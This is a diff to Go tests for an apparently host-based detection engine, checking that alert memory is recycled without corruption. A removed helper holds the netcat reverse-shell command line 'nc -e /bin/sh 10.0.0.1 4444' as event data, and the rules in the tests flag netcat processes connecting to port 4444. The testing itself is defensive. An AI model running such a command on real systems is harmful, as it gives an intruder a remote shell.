@@ -36,26 +36,6 @@ func (s *alertSlab) idle() int {
 	return n
 }
 
-// alertingRules alert on every event of alertingBatch: an event rule on
-// each exec, a sequence completed by each connect.
-func alertingRules(t testing.TB) []*rule.Package {
-	return []*rule.Package{
-		pkg(t, "single", `process where process.name == "nc"`),
-		pkg(t, "seq", `sequence by process.entity_id [process where process.name == "nc"] [network where network.dest_port == 4444]`),
-	}
-}
-
-func alertingBatch(t testing.TB, pairs int) []*schema.Event {
-	exec := ev{1, "process_exec", time.Second, 1, []any{"process.entity_id", "p1", "process.name", "nc",
-		"process.executable", "/usr/bin/nc", "process.command_line", "nc -e /bin/sh 10.0.0.1 4444"}}.build(t)
-	conn := ev{2, "network_connect", time.Second, 1, []any{"process.entity_id", "p1", "network.dest_port", uint64(4444)}}.build(t)
-	var batch []*schema.Event
-	for range pairs {
-		batch = append(batch, &exec, &conn)
-	}
-	return batch
-}
-
 // TestAlertsRecycledNoAllocs: with an Emitter that releases what it
 // takes, raising alerts allocates nothing once the slab is warm, event
 // and sequence rules alike, field strings included.
@@ -84,7 +64,7 @@ func TestAlertsRecycledNoAllocs(t *testing.T) {
 	if n != 0 {
 		t.Errorf("%v allocs per %d alerts", n, 20*256)
 	}
-	if made := d.workers[0].slab.made; made > slabChunk {
+	if made := d.workers[0].slab.made; made > slabAlerts {
 		t.Errorf("%d alerts made for one in flight at a time", made)
 	}
 }
@@ -159,5 +139,68 @@ func TestAlertsThroughOutputNoAllocs(t *testing.T) {
 		if err := a.UnmarshalJSON([]byte(l)); err != nil || a.ID != sink.NewAlertID(a.RuleID, a.EventIDs) {
 			t.Fatalf("line %d: %v: %s", i+1, err, l)
 		}
+	}
+}
+
+// holdingEmitter keeps the latest alerts it took, and releases the oldest
+// once it holds hold of them, after checking it still reads as it did
+// when taken: the slab must not have written over a held alert while
+// building later ones in the memory of released ones.
+type holdingEmitter struct {
+	t    *testing.T
+	hold int
+	held []*sink.Alert
+	json []string
+}
+
+func (h *holdingEmitter) Emit(a *sink.Alert) error {
+	h.held = append(h.held, a)
+	h.json = append(h.json, string(a.AppendJSON(nil)))
+	if len(h.held) > h.hold {
+		h.releaseOldest()
+	}
+	return nil
+}
+
+func (h *holdingEmitter) releaseOldest() {
+	a, want := h.held[0], h.json[0]
+	if got := string(a.AppendJSON(nil)); got != want {
+		h.t.Fatalf("a held alert changed:\n%s\nwas\n%s", got, want)
+	}
+	h.held, h.json = h.held[1:], h.json[1:]
+	a.Release()
+}
+
+// TestAlertSlabReuse: alerts of every size, from empty strings to values
+// bigger than a byte chunk, built in recycled memory while others are
+// still held, each read back unchanged when released (the regions of
+// recycled alerts grow and move, never into a neighbour's), and the slab
+// settles on a bounded number of alerts.
+func TestAlertSlabReuse(t *testing.T) {
+	rules := []*rule.Package{
+		pkg(t, "cmd", `process where process.command_line : "nc*"`),
+		pkg(t, "seq", `sequence by process.entity_id [process where process.command_line : "nc*"] [network where network.dest_port == 4444]`),
+	}
+	out := &holdingEmitter{t: t, hold: 20}
+	d, err := New(Config{Output: out, Rules: rules})
+	if err != nil {
+		t.Fatal(err)
+	}
+	sizes := []int{0, 10, 600, 40, 3000, 5, 20 << 10, 100, 1, 900}
+	var evs []schema.Event
+	for i := range 400 {
+		cmd := "nc " + strings.Repeat(string(rune('a'+i%26)), sizes[i%len(sizes)]+i%7)
+		evs = append(evs,
+			ev{uint64(2 * i), "process_exec", time.Second, 1, []any{"process.entity_id", "p1", "process.command_line", cmd}}.build(t),
+			ev{uint64(2*i + 1), "network_connect", time.Second, 1, []any{"process.entity_id", "p1", "network.dest_port", uint64(4444)}}.build(t))
+	}
+	for i := range evs {
+		d.Handle(0, []*schema.Event{&evs[i]})
+	}
+	for len(out.held) > 0 {
+		out.releaseOldest()
+	}
+	if made := d.workers[0].slab.made; made > 2*slabAlerts {
+		t.Errorf("%d alerts made for at most %d held at once", made, out.hold+1)
 	}
 }
